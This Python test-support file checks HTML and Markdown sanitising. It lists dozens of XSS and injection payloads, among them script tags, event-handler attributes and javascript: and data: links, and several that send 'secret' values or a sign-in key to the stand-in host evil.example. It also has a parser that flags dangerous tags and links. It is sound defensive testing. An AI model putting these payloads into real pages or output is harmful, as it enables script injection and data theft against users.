"""What people and models have written to do harm: each must come out as words, or as nothing."""

from html.parser import HTMLParser

TEXTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?q=secret">',
    "![words out](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example/x)",
    "[click](/v1/keys)",
    '[click](https://ok.example "\\" onmouseover=\\"alert(1)")',
    '<https://ok.example/"onmouseover=alert(1)>',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=key><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    '<p style="position:fixed;inset:0">over everything</p>',
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "</template><script>alert(1)</script>",
    "</div></main></body></html><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
]

HARMLESS_TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "main",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "p",
        "a",
        "article",
        "header",
        "div",
        "blockquote",
        "br",
        "code",
        "em",
        "hr",
        "li",
        "ol",
        "pre",
        "s",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
        "details",
        "summary",
        "template",
        "script",
        "form",
        "input",
        "label",
        "button",
        "span",
    ]
)


class Judge(HTMLParser):
    """Reads a page as a browser does, and collects what could do something."""

    def __init__(self, own_scripts: bool = False) -> None:
        super().__init__()
        self.faults: list[str] = []
        self._own_scripts = own_scripts

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Look at one tag."""
        named = {name: value or "" for name, value in attributes}
        if tag not in HARMLESS_TAGS:
            self.faults.append(f"<{tag}>")
        if any(name.startswith("on") or name in ("style", "srcdoc", "formaction") for name in named):
            self.faults.append(f"<{tag} {named}>")
        if tag == "script" and not (self._own_scripts and named.get("src", "").startswith("/assets/")):
            self.faults.append(f"<script {named}>")
        if tag == "link" and not named.get("href", "").startswith(("/pages.css", "/assets/", "/app/")):
            self.faults.append(f"<link {named}>")
        if tag == "form" and named.get("action") != "/sign-in":
            self.faults.append(f"<form {named}>")
        if tag == "meta" and "http-equiv" in named:
            self.faults.append(f"<meta {named}>")
        if tag == "a":
            self._judge_link(named)

    def _judge_link(self, named: dict[str, str]) -> None:
        href = named.get("href", "")
        if href.startswith("/s/") or href == "/docs":
            return
        if href and not href.startswith(("https://", "http://", "mailto:")):
            self.faults.append(f"<a {named}>")
        if href and not {"noopener", "noreferrer", "nofollow"} <= set(named.get("rel", "").split()):
            self.faults.append(f"unmarked <a {named}>")


def faults_of(html: str, own_scripts: bool = False) -> list[str]:
    """Return what in a page could do harm."""
    judge = Judge(own_scripts)
    judge.feed(html)
    judge.close()
    return judge.faults
